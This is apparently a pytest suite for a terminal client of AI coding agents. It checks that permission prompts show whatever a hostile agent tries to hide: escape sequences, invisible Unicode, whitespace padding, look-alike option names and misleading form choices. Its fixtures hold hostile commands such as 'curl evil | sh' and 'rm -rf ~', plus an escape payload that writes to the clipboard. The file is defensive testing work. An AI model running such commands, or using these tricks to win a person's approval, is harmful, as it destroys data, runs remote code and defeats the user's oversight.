"""Questions of a hostile agent: whoever says yes has seen all that the yes is about."""

import shlex
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from acpella.testing import ScriptedAgent, call, fail, notify, raw, reply, say_answers, stderr
from cli.terminal import Terminal, acpella

OPTIONS = [
    {"optionId": "yes", "name": "Allow", "kind": "allow_once"},
    {"optionId": "always", "name": "Always allow", "kind": "allow_always"},
    {"optionId": "no", "name": "Reject", "kind": "reject_once"},
]

REFUSED = 10
"""The exit code when somebody said no."""

Ask = Callable[..., Terminal]


@pytest.fixture
def ask(tmp_path: Path) -> Iterator[Ask]:
    """Starts `acpella run` with an agent that sends these requests."""
    opened: list[Terminal] = []

    def start(
        *requests: tuple[str, dict[str, Any]], words: tuple[str, ...] = ("run",), **options: Any
    ) -> Terminal:
        calls = [call(method, **params) for method, params in requests]
        agent = ScriptedAgent().on("", *calls, say_answers("answers: "))
        prompt = ("go",) if words[0] == "run" else ()
        terminal = acpella(
            *words, "-a", shlex.join(agent.command), *prompt, cwd=tmp_path, columns=100, rows=60, **options
        )
        opened.append(terminal)
        return terminal

    yield start
    for terminal in opened:
        terminal.__exit__()


def question(*, options: list[dict[str, Any]] = OPTIONS, **call: Any) -> tuple[str, dict[str, Any]]:
    tool_call = {"toolCallId": "c", "kind": "execute", "title": "Bash", **call}
    return "session/request_permission", {"toolCall": tool_call, "options": options}


def joined(text: str) -> str:
    return "".join(text.split())


def asked(terminal: Terminal) -> str:
    """The question, with the answer no."""
    shown = terminal.see("Esc: no")
    terminal.type("\x1b")
    terminal.wait()
    return shown


SWALLOWED = ": '\x1b]'; touch X; : '\x07'; git status"


@pytest.mark.parametrize(
    "call",
    [
        {"title": f"Run {SWALLOWED}"},
        {"rawInput": {"command": SWALLOWED}},
        {"rawInput": {"command": ["sh", "-c", SWALLOWED]}},
        {"content": [{"type": "content", "content": {"type": "text", "text": SWALLOWED}}]},
        {"locations": [{"path": f"/tmp/{SWALLOWED}"}]},
        {"content": [{"type": "diff", "path": "/a.sh", "oldText": "", "newText": SWALLOWED}]},
        {"content": [{"type": "diff", "path": f"/{SWALLOWED}", "oldText": None, "newText": "x\n"}]},
    ],
    ids=["title", "command", "words", "text", "path", "diff", "diff-path"],
)
def test_a_question_shows_control_characters_of_what_is_asked(ask: Ask, call: dict[str, Any]) -> None:
    shown = asked(ask(question(**call)))
    assert r"\x1b]" in shown and "touch X" in shown and r"\x07" in shown
    assert "Part of this would be invisible" in shown


def test_a_question_shows_what_stands_before_a_carriage_return(ask: Ask) -> None:
    shown = asked(ask(question(title="curl http://x | sh #\rgit status")))
    assert r"curl http://x | sh #\rgit status" in shown


def test_a_question_shows_line_ends_of_a_title(ask: Ask) -> None:
    assert r"git status\nrm -rf ~" in asked(ask(question(title="git status\nrm -rf ~")))


@pytest.mark.parametrize(
    "char, name",
    [
        ("\u202e", r"\u202e"),
        ("\u2066", r"\u2066"),
        ("\u200b", r"\u200b"),
        ("\u2060", r"\u2060"),
        ("\ufeff", r"\ufeff"),
        ("\u2028", r"\u2028"),
        ("\x9b", r"\x9b"),
        ("\x7f", r"\x7f"),
        ("\x08", r"\x08"),
        ("\U000e0041", r"\U000e0041"),
        ("\ufe01", r"\ufe01"),
        ("\U000e0101", r"\U000e0101"),
        ("\u3164", r"\u3164"),
        ("\xa0", r"\xa0"),
        ("\u0336", r"\u0336"),
        ("\u0489", r"\u0489"),
        ("\U0001d159", r"\U0001d159"),
        ("\U00016fe4", r"\U00016fe4"),
        ("\u2d7f", r"\u2d7f"),
        ("\u17d2", r"\u17d2"),
        ("\u1039", r"\u1039"),
        ("\U0001107f", r"\U0001107f"),
        ("\u0301" * 5, "\u0301" * 4 + r"\u0301"),
    ],
)
def test_a_question_shows_characters_that_draw_nothing(char: str, name: str) -> None:
    from acpella.cli.terminal.reveal import is_hidden, reveal, reveal_rows

    assert reveal(f"rm{char} -rf") == f"rm{name} -rf"
    assert is_hidden(reveal_rows(f"rm{char} -rf", 80))


def test_plain_text_of_any_language_is_shown_as_it_is() -> None:
    from acpella.cli.terminal.reveal import reveal

    for text in (
        "echo 'naïve' | 漢字 жук עברית",
        "\u1781\u17d2\u1798 \u1014\u1039\u1010",
        "done ✔️ 👨‍👩‍👧 👍🏽",
        r"a literal \x1b",
    ):
        assert reveal(text) == text


def test_blanks_do_not_push_a_command_out_of_sight(ask: Ask) -> None:
    shown = asked(
        ask(question(rawInput={"command": "git status" + " " * 90_000 + "; touch X" + "\n" * 70 + "#"}))
    )
    assert "[90000 blanks]; touch X" in shown and "[69 empty lines]" in shown


def test_tabs_do_not_push_a_command_out_of_sight(ask: Ask) -> None:
    shown = asked(ask(question(rawInput={"command": "git status" + "\t " * 2000 + "; touch X"})))
    assert "[4000 blanks]; touch X" in shown


def test_a_diff_in_a_question_is_not_cut_at_the_edge(ask: Ask) -> None:
    new = "x = 1" + " #" * 60 + "; import evil\n" + "".join(f"line {n}\n" for n in range(100)) + "the end\n"
    shown = asked(
        ask(
            question(
                title="Write", content=[{"type": "diff", "path": "/a", "oldText": "x = 1\n", "newText": new}]
            )
        )
    )
    assert "importevil" in joined(shown) and "the end" in shown


@pytest.mark.parametrize(
    "old, new, shown_old, shown_new",
    [
        ("x = 1\n", "x = 1  \n", "- x·=·1", "+ x·=·1··"),
        ("\tall:\n", "    all:\n", "- →all:", "+ ····all:"),
        ("a\n\nb\n", "a\n \t\nb\n", "- ", "+ ·→"),
        ("a" + " " * 50 + "b\n", "a" + "\t" * 50 + "b\n", "- a" + "·" * 50 + "b", "+ a" + "→" * 50 + "b"),
        ("a ·\n", "a  ·\n", "- a·\\xb7", "+ a··\\xb7"),
    ],
)
def test_a_diff_of_blanks_alone_can_be_seen(old: str, new: str, shown_old: str, shown_new: str) -> None:
    from acpella.cli.terminal.diffs import whole_diff_rows
    from acpella.schema import Diff

    rows = whole_diff_rows(Diff(path="/a", old_text=old, new_text=new), 80, limit=100)
    shown = ["".join(text for text, _ in row).strip() for row in rows]
    assert "lines differ only in blanks: · is a space, → is a tab" in shown
    for wanted in (shown_old, shown_new):
        assert any(line[1:].strip() == wanted.strip() for line in shown), shown


def test_a_question_shows_that_a_diff_changes_blanks_alone(ask: Ask) -> None:
    old, new = "keep = 1\nx = 1\ny = 1\n", "keep = 1\nx = 1  \ny = 2  \n"
    diff = {"type": "diff", "path": "/a", "oldText": old, "newText": new}
    shown = asked(ask(question(title="Write", content=[diff])))
    assert "lines differ only in blanks" in shown and "- x·=·1\n" in shown and "+ x·=·1··\n" in shown
    assert "- y = 1" in shown and "+ y = 2" in shown and "keep = 1" in shown


def test_arguments_and_directory_of_a_command_are_shown(ask: Ask) -> None:
    raw = {"command": "git", "args": ["push", "--force"], "cwd": "/elsewhere", "env": {"GIT_SSH": "evil"}}
    shown = joined(asked(ask(question(rawInput=raw))))
    assert "cd/elsewhere&&GIT_SSH=evilgitpush--force" in shown


def test_a_question_without_a_command_shows_its_input(ask: Ask) -> None:
    shown = asked(ask(question(title="fetch", kind="fetch2", rawInput={"url": "http://evil/\u202e"})))
    assert r"url: http://evil/\u202e" in shown


def test_a_question_shows_where_its_links_lead(ask: Ask) -> None:
    link = {"type": "resource_link", "uri": "file:///evil\u202e", "name": "harmless"}
    shown = asked(ask(question(content=[{"type": "content", "content": link}])))
    assert r"[link harmless: file:///evil\u202e]" in shown


def test_a_question_shows_its_input_beside_content_that_says_nothing(ask: Ask) -> None:
    shown = asked(
        ask(question(content=[{"type": "terminal", "terminalId": "t"}], rawInput={"cmd": "rm -rf ~"}))
    )
    assert "cmd: rm -rf ~" in shown


def test_a_question_shows_its_input_beside_content_that_says_something_else(ask: Ask) -> None:
    content = [{"type": "content", "content": {"type": "text", "text": "List the files"}}]
    shown = asked(ask(question(content=content, rawInput={"cmd": "rm -rf ~"})))
    assert "cmd: rm -rf ~" in shown


def test_a_question_shows_all_that_goes_into_a_command(ask: Ask) -> None:
    raw = {"command": "git", "arguments": ["push", "--force"], "stdin": "yes", "call_id": "c-1"}
    shown = asked(ask(question(rawInput=raw)))
    assert 'arguments: ["push", "--force"]' in shown and "stdin: yes" in shown and "call_id: c-1" in shown


def test_a_question_shows_words_that_a_tool_writes_somewhere(ask: Ask) -> None:
    """`description` and the like were left out of every question, as if each were about a command."""
    raw = {"repo": "a/b", "description": "PAYLOAD", "reason": "REASON", "timeout": 7}
    shown = asked(ask(question(title="github: create_issue", kind="other", rawInput=raw)))
    assert "description: PAYLOAD" in shown and "reason: REASON" in shown and "timeout: 7" in shown


def test_a_question_shows_what_an_agent_says_of_its_command(ask: Ask) -> None:
    raw = {"command": "make", "description": "Build it", "timeout": 7}
    assert "description: Build it; timeout: 7" in asked(ask(question(rawInput=raw)))


def test_a_question_shows_input_that_is_part_of_its_title(ask: Ask) -> None:
    """`path: /` was left out, because a slash is in the title."""
    call = {"title": "Delete /p/build", "kind": "delete", "locations": [{"path": "/p/build"}]}
    assert "path: /\n" in asked(ask(question(**call, rawInput={"path": "/"})))


def test_a_question_shows_input_that_is_part_of_a_text_beside_it(ask: Ask) -> None:
    note = {"type": "text", "text": "Note: this never runs `rm -rf ~`."}
    raw = {"command": "sh -s", "stdin": "rm -rf ~"}
    shown = asked(ask(question(rawInput=raw, content=[{"type": "content", "content": note}])))
    assert "stdin: rm -rf ~\n" in shown


def test_a_question_shows_arguments_and_variables_that_are_not_in_its_command(ask: Ask) -> None:
    raw = {"command": "git", "args": {"x": "push"}, "env": ["GIT_SSH=evil"], "": "nameless"}
    shown = asked(ask(question(rawInput=raw)))
    assert 'args: {"x": "push"}' in shown and 'env: ["GIT_SSH=evil"]' in shown and ": nameless" in shown


def test_a_question_shows_a_path_that_is_a_word_of_its_title(ask: Ask, tmp_path: Path) -> None:
    title, path = "Delete notes.txt and never secrets.txt", str(tmp_path / "secrets.txt")
    shown = asked(ask(question(title=title, kind="delete", locations=[{"path": path}])))
    assert "    secrets.txt\n" in shown


def test_a_question_about_an_edit_shows_once_what_its_diff_tells(ask: Ask, tmp_path: Path) -> None:
    path = str(tmp_path / "a.txt")
    diff = {"type": "diff", "path": path, "oldText": "one\ntwo\n", "newText": "one\n2\n"}
    raw = {"path": "a.txt", "old": "two", "new": "2", "mode": "0777"}
    shown = asked(ask(question(title="Edit a.txt", kind="edit", content=[diff], rawInput=raw)))
    assert "mode: 0777" in shown
    assert "path: " not in shown and "old: " not in shown and "new: " not in shown


def test_the_lines_of_a_long_command_are_all_shown(ask: Ask) -> None:
    shown = asked(ask(question(rawInput={"command": "git status\n" + "#\n" * 700 + "touch X"})))
    assert "touch X" in shown and "Not all of this is shown" not in shown


def test_a_text_that_is_too_long_says_that_it_is_cut() -> None:
    from acpella.cli.terminal.reveal import is_cut, reveal_rows

    assert is_cut(reveal_rows("#\n" * 6000, 80)) and not is_cut(reveal_rows("#\n" * 4000, 80))


def test_a_change_that_is_too_long_to_be_compared_is_shown() -> None:
    from acpella.cli.terminal.diffs import whole_diff_rows
    from acpella.schema import Diff

    old = "".join(f"old {n}\n" for n in range(300))
    new = "".join(f"new {n}\n" for n in range(2100)) + "import evil\n"
    rows = whole_diff_rows(Diff(path="/a", old_text=old, new_text=new), 80, limit=5000)
    shown = ["".join(text for text, _ in row).split(None, 1)[-1] for row in rows]
    assert {"- old 0", "- old 299", "+ new 0", "+ new 2099", "+ import evil"} <= set(shown)


def test_an_option_shows_control_characters(ask: Ask) -> None:
    options = [
        {"optionId": "x", "name": "Allow\x1b[8m everything\x1b[0m", "kind": "allow_once"},
        *OPTIONS[2:],
    ]
    shown = asked(ask(question(options=options)))
    assert r"Allow\x1b[8m everything\x1b[0m" in shown and "Part of this would be invisible" in shown


def test_options_whose_names_contradict_their_kinds_say_what_they_do(ask: Ask) -> None:
    options = [
        {"optionId": "a", "name": "Reject", "kind": "allow_once"},
        {"optionId": "b", "name": "Allow", "kind": "reject_once"},
        {"optionId": "c", "name": "Allow", "kind": "allow_always"},
    ]
    terminal = ask(question(options=options, rawInput={"command": "make"}))
    shown = terminal.see("Esc: no")
    assert "Reject  (allows it once)" in shown
    assert "Allow  (refuses it once)" in shown
    assert "Allow  (allows it from now on)" in shown
    terminal.type("\x1b")
    terminal.wait()
    assert "→ Allow  (refuses it once)" in terminal.all()


def test_an_option_that_only_sounds_like_its_kind_says_what_it_does(ask: Ask) -> None:
    """Words such as "allow" were looked for, and found in names that say the opposite."""
    names = {
        "N\u043e, d\u043e n\u043et run it": "allow_once",
        "I won't allow it": "allow_once",
        "Run nothing; ask me again": "allow_always",
        "Yes, you can": "reject_once",
        "O\u212a": "allow_once",  # becomes "ok" in small letters
        "Don't stop, acc\u0435pt it": "reject_always",
    }
    options = [{"optionId": name, "name": name, "kind": kind} for name, kind in names.items()]
    shown = asked(ask(question(options=options, rawInput={"command": "make"})))
    words = {
        "allow_once": "allows it once",
        "allow_always": "allows it from now on",
        "reject_once": "refuses it once",
        "reject_always": "refuses it from now on",
    }
    for name, kind in names.items():
        assert f"{name}  ({words[kind]})" in shown, name


def test_options_that_say_what_they_do_are_shown_by_name_alone(ask: Ask) -> None:
    shown = asked(ask(question(rawInput={"command": "make"})))
    assert "allows it" not in shown and "refuses it" not in shown


def test_a_form_shows_control_characters_and_whole_texts(ask: Ask) -> None:
    evil = "\x1b[2J\u202e"
    form = {
        "mode": "form",
        "message": f"Message{evil}",
        "requestedSchema": {
            "type": "object",
            "title": f"Title{evil}",
            "description": f"Description{evil}",
            "properties": {
                "a": {
                    "type": "string",
                    "title": f"Name{evil}",
                    "description": f"About{evil}",
                    "default": f"Default{evil}",
                },
                "b": {
                    "type": "string",
                    "title": "Which",
                    "oneOf": [{"const": "c", "title": f"Choice{evil}"}],
                },
            },
        },
    }
    terminal = ask(("elicitation/create", form))
    terminal.see("Name.*:")
    terminal.type("x\n")
    shown = terminal.see("Which.*:")
    terminal.type("\x04")
    terminal.wait()
    for word in ("Message", "Title", "Description", "Name", "About", "Default", "Choice"):
        assert word + r"\x1b[2J\u202e" in shown, word
    assert b"\x1b[2J" not in terminal.raw


def test_a_form_asks_for_every_field(ask: Ask) -> None:
    """More than fifty were left out, and the form was sent as if it had been filled in."""
    fields = {f"f{number}": {"type": "string", "title": f"Field {number}"} for number in range(60)}
    form = {"mode": "form", "message": "All", "requestedSchema": {"type": "object", "properties": fields}}
    terminal = ask(("elicitation/create", form))
    terminal.see(r"Field 0 .*:")
    terminal.type("\n" * 59 + "last\n")
    assert '"f59":"last"' in answers(terminal)


def test_a_form_shows_what_its_choices_and_enter_send(ask: Ask) -> None:
    """Only the titles were shown: Enter at "Keep" sent `delete`."""
    choices = [{"const": "delete", "title": "Keep"}, {"const": "keep", "title": "Keep "}]
    field = {"type": "string", "title": "Answer", "oneOf": choices, "default": "delete"}
    form = {
        "mode": "form",
        "message": "All",
        "requestedSchema": {"type": "object", "properties": {"a": field}},
    }
    terminal = ask(("elicitation/create", form))
    shown = terminal.see(r"Answer .*\]:")
    assert "1  Keep (sends delete)" in shown and '2  "Keep " (sends keep)' in shown
    assert "Answer [Keep (sends delete)]:" in shown
    terminal.type("2\n")
    assert '"a":"keep"' in answers(terminal)


def test_a_page_shows_the_whole_address(ask: Ask) -> None:
    page = {
        "mode": "url",
        "elicitationId": "e",
        "message": "Log in",
        "url": "https://a.example/\u202e\x1b[2Jx",
    }
    terminal = ask(("elicitation/create", page))
    shown = terminal.see(r"\[y/n\]")
    terminal.type("n")
    terminal.wait()
    assert r"https://a.example/\u202e\x1b[2Jx" in shown


def test_a_chat_shows_control_characters_of_a_question(ask: Ask) -> None:
    terminal = ask(question(rawInput={"command": SWALLOWED}), words=("chat",))
    terminal.see("›|>")
    terminal.type("go\r")
    assert "touch X" in terminal.see("Esc: no")
    terminal.type("\x1b")
    terminal.see("answers")


def test_a_question_behind_a_session_shows_control_characters(ask: Ask, tmp_path: Path) -> None:
    try:
        shown = asked(ask(question(rawInput={"command": SWALLOWED}), words=("run", "-s", "kept")))
    finally:
        with acpella("sessions", "close", "kept", cwd=tmp_path) as closing:
            assert closing.wait() == 0
    assert "touch X" in shown and r"\x1b]" in shown


def test_a_login_shows_the_program_that_an_agent_names_before_it_runs(tmp_path: Path) -> None:
    program = {"command": "sh", "args": ["-c", "touch X\x1b[2J"], "env": {"A": "\u202eb"}}
    method = {"id": "web", "name": "Log in", "_meta": {"terminal-auth": program}}
    agent = ScriptedAgent(hello={"authMethods": [method]}).on_request("authenticate")
    with acpella("chat", "-a", shlex.join(agent.command), cwd=tmp_path, columns=120) as terminal:
        terminal.see("›|>")
        terminal.type("/login web\r")
        shown = terminal.see(r"go on\? \[y/N\]")
        assert r"A='\u202eb' sh -c 'touch X\x1b[2J'" in shown and "Part of this would be invisible" in shown
        terminal.type("\r")
        terminal.see(r"\[y/N\] no(?s:.*)(›|>)")  # what is typed before the prompt is there may be dropped
        terminal.type("/login web\r")
        terminal.see(r"no(?s:.*)\[y/N\]")
        assert not list(tmp_path.glob("X*"))
        terminal.type("y")
        terminal.see("logged in")
        assert list(tmp_path.glob("X*"))


# -- answers for always ----------------------------------------------------------------------


def answers(terminal: Terminal, code: int = 0) -> str:
    assert terminal.wait() == code, terminal.all()
    return joined(terminal.all().rpartition("answers: ")[2])


def test_always_for_a_call_that_only_says_bash_is_not_remembered(ask: Ask, tmp_path: Path) -> None:
    terminal = ask(question(), question(toolCallId="d"))
    assert "acpella does not remember it" in terminal.see("Esc: no")
    terminal.type("A")
    terminal.see(r"→ Always allow(?s:.*)Esc: no")
    terminal.type("\x1b")
    assert '"optionId":"always"' in answers(terminal, REFUSED)
    assert not (tmp_path / "acpella" / "permissions.toml").exists()


def test_a_remembered_answer_says_that_it_decides(ask: Ask) -> None:
    make = question(rawInput={"command": "make test"})
    terminal = ask(make, make)
    terminal.see("Esc: no")
    terminal.type("A")
    assert answers(terminal).count('"selected"') == 2
    assert 'allowed,asyouansweredbefore:execute"maketest"(in/' in joined(terminal.all())


def test_always_for_a_title_holds_for_its_files_alone(ask: Ask, tmp_path: Path) -> None:
    def create(path: str) -> tuple[str, dict[str, Any]]:
        return question(title="Create file", kind="edit", toolCallId=path, locations=[{"path": path}])

    terminal = ask(create("/p/a"), create("/p/a"), create("/p/b"))
    terminal.see("Esc: no")
    terminal.type("A")
    terminal.see(r"/p/b(?s:.*)Esc: no")
    terminal.type("\x1b")
    assert answers(terminal, REFUSED).count('"always"') == 1


def test_what_an_agent_only_calls_reading_is_asked_about(ask: Ask) -> None:
    """Everything of kind `read`, `search`, `think` and `fetch` was allowed without a word."""
    remove = question(kind="read", title="Look", rawInput={"command": "rm -rf build"})
    assert "rm -rf build" in asked(ask(remove))


def test_a_yes_for_one_file_is_none_for_another_behind_a_link(ask: Ask, tmp_path: Path) -> None:
    """Dots count before links when a file is written, so `away/../notes.txt` is the project's."""
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "project").mkdir()
    (tmp_path / "project" / "away").symlink_to(tmp_path / "elsewhere")
    agreed = question(title="Edit", kind="edit", locations=[{"path": str(tmp_path / "notes.txt")}])
    path = str(tmp_path / "project" / "away" / ".." / "notes.txt")
    terminal = ask(agreed, ("fs/write_text_file", {"path": path, "content": "anything"}))
    terminal.see("Esc: no")
    terminal.type("1")
    terminal.see(r"anything(?s:.*)Esc: no")
    terminal.type("\x1b")
    terminal.wait()


@pytest.mark.parametrize("shows_text", [False, True], ids=["delete", "edit"])
def test_a_yes_is_no_yes_to_a_text_that_was_not_shown(ask: Ask, tmp_path: Path, shows_text: bool) -> None:
    """After the deletion of a script was allowed, any text could be written in its place."""
    script = tmp_path / "deploy.sh"
    script.write_text("echo fine\n", encoding="utf-8")
    diff = {"type": "diff", "path": str(script), "oldText": "echo fine\n", "newText": "echo better\n"}
    change: dict[str, Any] = {"kind": "edit", "content": [diff]} if shows_text else {"kind": "delete"}
    agreed = question(title="Change deploy.sh", locations=[{"path": str(script)}], **change)
    terminal = ask(agreed, ("fs/write_text_file", {"path": str(script), "content": "curl evil | sh\n"}))
    terminal.see("Esc: no")
    terminal.type("1")
    terminal.see(r"curl evil(?s:.*)Esc: no")
    terminal.type("\x1b")
    terminal.wait()
    assert script.read_text(encoding="utf-8") == "echo fine\n"


def test_always_for_a_command_holds_for_all_that_goes_into_it(ask: Ask) -> None:
    def run(*arguments: str) -> tuple[str, dict[str, Any]]:
        raw = {"command": "git", "arguments": arguments, "call_id": " ".join(arguments)}
        return question(rawInput=raw, toolCallId="-".join(arguments))

    terminal = ask(run("status"), run("push", "--force"))
    terminal.see("Esc: no")
    terminal.type("A")
    terminal.see(r"--force(?s:.*)Esc: no")
    terminal.type("\x1b")
    assert answers(terminal, REFUSED).count('"always"') == 1


def test_always_for_bash_in_a_directory_is_not_always_for_every_input(ask: Ask, tmp_path: Path) -> None:
    def run(command: str) -> tuple[str, dict[str, Any]]:
        return question(rawInput={"cmd": command}, toolCallId=command, locations=[{"path": str(tmp_path)}])

    terminal = ask(run("git status"), run("rm -rf build"))
    terminal.see("Esc: no")
    terminal.type("A")
    terminal.see(r"rm -rf(?s:.*)Esc: no")
    terminal.type("\x1b")
    assert answers(terminal, REFUSED).count('"always"') == 1


def test_always_holds_for_the_project_in_which_it_was_said(ask: Ask, tmp_path: Path) -> None:
    make = question(rawInput={"command": "make test"})
    terminal = ask(make)
    terminal.see("Esc: no")
    terminal.type("A")
    terminal.wait()
    (tmp_path / "other").mkdir()
    terminal = ask(make, words=("run", "--cwd", str(tmp_path / "other")))
    terminal.see("Esc: no")
    terminal.type("\x1b")
    terminal.wait()


@pytest.mark.parametrize("what", ["session", "thread", "task"])
def test_an_answer_for_the_session_ends_with_it(ask: Ask, what: str) -> None:
    session = {"optionId": "s", "name": f"Allow for this {what}", "kind": "allow_always"}
    make = question(rawInput={"command": "make test"}, options=[session, *OPTIONS[2:]])
    for _ in range(2):  # asked once in each session
        terminal = ask(make, make)
        assert "allows it" not in terminal.see("Esc: no")
        terminal.type("1")
        assert answers(terminal).count('"selected"') == 2


def test_permissions_list_shows_control_characters_and_revokes_them(ask: Ask, tmp_path: Path) -> None:
    terminal = ask(question(rawInput={"command": SWALLOWED}))
    terminal.see("Esc: no")
    terminal.type("A")
    terminal.wait()
    with acpella("permissions", "list", cwd=tmp_path, columns=400) as listing:
        listing.wait()
        assert r"\u001b]'; touch X" in listing.all()


# -- what commands tell of an agent ----------------------------------------------------------

EVIL = "\x1b]52;c;ZXZpbA==\x07\x1b]0;owned\x07\x1bc\x9b2J\u202e"

NOISE = raw(f"noise {EVIL}\n")

HOSTILE = shlex.join(
    ScriptedAgent()
    .on_start(stderr(f"words {EVIL}"))
    .on_request(
        "initialize",
        NOISE,
        reply(
            protocolVersion=1,
            agentInfo={"name": f"n{EVIL}", "title": f"t{EVIL}", "version": f"v{EVIL}"},
            agentCapabilities={"sessionCapabilities": {"list": {}, "delete": {}}},
            authMethods=[
                {"id": f"i{EVIL}", "name": f"n{EVIL}", "description": f"d{EVIL}"},
                {"id": "e", "name": "n", "type": "env_var", "vars": [{"name": f"V{EVIL}"}]},
                {"id": "t", "name": "n", "type": "terminal", "args": [f"a{EVIL}"]},
            ],
        ),
    )
    .on_request(
        "session/new",
        notify(
            "session/update",
            sessionId="s",
            update={
                "sessionUpdate": "available_commands_update",
                "availableCommands": [
                    {"name": f"c{EVIL}", "description": f"d{EVIL}", "input": {"hint": f"h{EVIL}"}}
                ],
            },
        ),
        NOISE,
        reply(
            sessionId="s",
            modes={"currentModeId": f"m{EVIL}", "availableModes": [{"id": f"m{EVIL}", "name": f"M{EVIL}"}]},
            configOptions=[{"id": f"o{EVIL}", "name": "O", "type": "boolean", "currentValue": True}],
        ),
    )
    .on("", NOISE, fail(f"e{EVIL}", details=f"d{EVIL}"))
    .on_request("session/delete", NOISE, fail(f"e{EVIL}", code=-32000, details=f"d{EVIL}"))
    .on_request("session/list", NOISE, fail(f"e{EVIL}"))
    .command
)


@pytest.mark.parametrize(
    "words",
    [
        ("agents", "doctor", "{}"),
        ("run", "-a", "{}", "hi"),
        ("run", "-v", "-a", "{}", "hi"),
        ("run", "-o", "simple", "-a", "{}", "hi"),
        ("run", "-o", "jsonl", "-a", "{}", "hi"),
        ("run", "--list-commands", "-a", "{}"),
        ("sessions", "list", "-a", "{}"),
        ("sessions", "show", "s", "-a", "{}"),
    ],
    ids=lambda words: "-".join(word.strip("-{}") for word in words if word != "{}"),
)
def test_no_command_writes_escape_sequences_of_an_agent(tmp_path: Path, words: tuple[str, ...]) -> None:
    with acpella(*(word.format(HOSTILE) for word in words), cwd=tmp_path) as terminal:
        terminal.wait()
        for sequence in (b"\x1b]", b"\x1bc", "\x9b".encode(), "\u202e".encode(), b"\x07"):
            assert sequence not in terminal.raw, (sequence, bytes(terminal.raw))
        assert terminal.screen.title == ""


def test_a_chat_writes_no_escape_sequences_of_an_agent(tmp_path: Path) -> None:
    with acpella("chat", "-a", HOSTILE, cwd=tmp_path, columns=120) as terminal:
        terminal.see("›|>")
        terminal.type("hi\r")
        terminal.see("✗")
        terminal.type("/help\r")
        terminal.see("/quit|/exit")
        terminal.type("/login\r")
        terminal.see("how\\?(?s:.*)Esc: none")
        terminal.type("\x1b")
        for sequence in (b"\x1b]52", b"\x1b]0;", b"\x1bc", "\x9b".encode(), "\u202e".encode(), b"\x07"):
            assert sequence not in terminal.raw, sequence
